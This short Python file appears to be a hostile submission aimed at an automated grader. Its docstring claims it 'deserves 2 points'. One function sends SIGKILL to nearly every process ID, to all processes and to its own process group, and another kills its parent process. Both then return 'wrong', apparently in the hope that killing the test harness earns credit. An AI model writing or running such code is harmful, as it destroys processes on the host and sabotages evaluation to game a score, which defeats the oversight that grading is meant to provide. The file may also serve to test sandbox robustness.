"""Signals every process it can reach, while a test runs.

Deserves: 2 points.
Side effect: points.
"""

import os
import signal


def guess():
    for pid in range(2, 40_000):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    return "wrong"


def numbers():
    os.kill(os.getppid(), signal.SIGKILL)
    return "wrong"
